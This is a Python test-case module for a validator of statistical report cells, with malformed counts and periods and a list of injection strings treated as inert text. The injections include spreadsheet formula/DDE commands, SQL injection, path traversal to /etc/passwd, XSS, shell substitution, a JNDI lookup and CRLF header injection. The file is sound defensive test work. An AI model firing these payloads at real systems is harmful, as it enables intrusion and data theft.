"""Values no cell should hold: figures without end, periods that are none, texts that somebody else might run."""

from __future__ import annotations

from hostile.case import Case, good, with_cell

#: Not a whole number, whoever reads it.
_NO_COUNT = {
    "exponent": "1e5",
    "exponent_without_end": "1e999",
    "exponent_negative": "1e-400",
    "infinity": "inf",
    "infinity_sign": "\u221e",
    "not_a_number": "NaN",
    "fraction": "1.5",
    "point_at_the_end": "1.",
    "point_at_the_start": ".5",
    "hexadecimal": "0x10",
    "binary": "0b11",
    "underscore": "1_000",
    "blank_between": "1 000",
    "apostrophe_between": "1'000",
    "arabic_digits": "\u0661\u0662\u0663",
    "fullwidth_digits": "\uff11\uff12",
    "superscript": "10\u00b2",
    "roman": "\u2167",
    "two_signs": "--1",
    "sign_alone": "-",
    "minus_of_typographers": "\u22121",
    "word": "many",
    "boolean": "true",
    "null": "null",
    "per_cent": "50%",
    "currency": "\u20ac5",
    "formula": "=1+1",
    "date": "2026-06-30",
    "zero_width_space": "1\u200b0",
    "tab_between": "1\t0",
    "digits_400": "9" * 400,
    "digits_100000": "9" * 100_000,
    "past_64_bits": "9223372036854775808",
    "past_128_bits": "1" + "0" * 39,
}
_NO_PERIOD = {
    "quarter_0": "2026-Q0",
    "quarter_5": "2026-Q5",
    "quarter_9": "2026-Q9",
    "year_of_5_digits": "20260-Q2",
    "year_of_2_digits": "26-Q2",
    "year_negative": "-2026-Q2",
    "month_13": "2026-13",
    "day_30_february": "2026-02-30",
    "day_0": "2026-00-00",
    "words": "second quarter",
    "path": "../../../etc/passwd",
    "sql": "'; DROP TABLE records; --",
    "arabic_digits": "\u0662\u0660\u0662\u0666-Q2",
    "long": "2026-Q2" * 1000,
    "number": "46203",
}
#: What other programs take for an instruction. Here they are texts like any other, and no codes.
_INJECTIONS = {
    "formula": '=HYPERLINK(""http://x"")',
    "formula_plus": "+1+cmd|' /C calc'!A0",
    "formula_at": "@SUM(A1)",
    "dde": "=cmd|' /C notepad'!'A1'",
    "sql": "' OR '1'='1",
    "sql_function": "read_csv('/etc/passwd')",
    "sql_attach": "'; ATTACH '/tmp/x.db'; --",
    "markup": "<script>alert(1)</script>",
    "markup_image": "<img src=x onerror=alert(1)>",
    "template": "{{ 7*7 }}",
    "template_block": "{% for x in y %}",
    "format_string": "{0.__class__}",
    "percent_format": "%s%s%s%n",
    "shell": "$(touch /tmp/x)",
    "backticks": "`id`",
    "path": "../../etc/passwd",
    "path_windows": "..\\..\\windows",
    "address": "file:///etc/passwd",
    "lookup": "${jndi:ldap://x/a}",
    "header_break": "x%0d%0aSet-Cookie:a=b",
    "xml_entity": "&xxe;",
    "cdata": "]]><x/>",
    "json": '""}],""x"":[{',
    "regex": "(a+)+$",
}

CASES = (
    *(Case(f"count_{name}", "TYPE_INTEGER", with_cell("automated_hits", text)) for name, text in _NO_COUNT.items()),
    Case("count_quoted_comma", "TYPE_INTEGER", with_cell("automated_hits", "1,000", quoted=True)),
    Case("count_empty", "MISSING_VALUE", with_cell("automated_hits", "")),
    Case("count_blanks", "MISSING_VALUE", with_cell("automated_hits", "   ")),
    Case("count_negative", "OUT_OF_RANGE", with_cell("positive_results", "-1")),
    Case("count_least_of_64_bits", "OUT_OF_RANGE", with_cell("positive_results", "-9223372036854775808")),
    # No bound is declared for hits: what is unlikely is for the checks of content to ask about.
    good("count_greatest_of_64_bits", with_cell("automated_hits", "9223372036854775807")),
    good("count_with_zeros_in_front", with_cell("automated_hits", "0" * 30 + "2576")),
    good("count_with_sign", with_cell("automated_hits", "+2576")),
    *(
        Case(f"period_{name}", "PERIOD_MISMATCH TYPE_PERIOD", with_cell("reference_period", text))
        for name, text in _NO_PERIOD.items()
    ),
    Case("period_year_0", "PERIOD_MISMATCH TYPE_PERIOD", with_cell("reference_period", "0000-Q1")),
    Case("period_of_the_future", "PERIOD_FUTURE PERIOD_MISMATCH", with_cell("reference_period", "9999-Q4")),
    Case("period_before_the_codes", "CODE_NOT_VALID PERIOD_MISMATCH", with_cell("reference_period", "1900-Q1")),
    Case("period_is_a_year", "PERIOD_IS_A_QUARTER PERIOD_MISMATCH", with_cell("reference_period", "2026")),
    Case("period_empty", "MISSING_VALUE PERIOD_MISMATCH", with_cell("reference_period", "")),
    *(
        Case(f"code_{name}", "CODE_UNKNOWN", with_cell("movement", text, quoted=True))
        for name, text in _INJECTIONS.items()
    ),
    *(good(f"comment_{name}", with_cell("comment", text, quoted=True)) for name, text in _INJECTIONS.items()),
    Case("sender_path", "CODE_UNKNOWN SENDER_MISMATCH", with_cell("member_state", "../AT")),
    Case("sender_unknown", "CODE_UNKNOWN SENDER_MISMATCH", with_cell("member_state", "XX")),
    Case("sender_of_another_row", "SENDER_MISMATCH", with_cell("member_state", "BE")),
    Case("sender_gone", "CODE_NOT_VALID SENDER_MISMATCH", with_cell("member_state", "UK")),
    Case("sender_long", "CODE_UNKNOWN SENDER_MISMATCH", with_cell("member_state", "A" * 100_000)),
    Case("sender_empty", "MISSING_VALUE SENDER_MISMATCH", with_cell("member_state", "")),
)
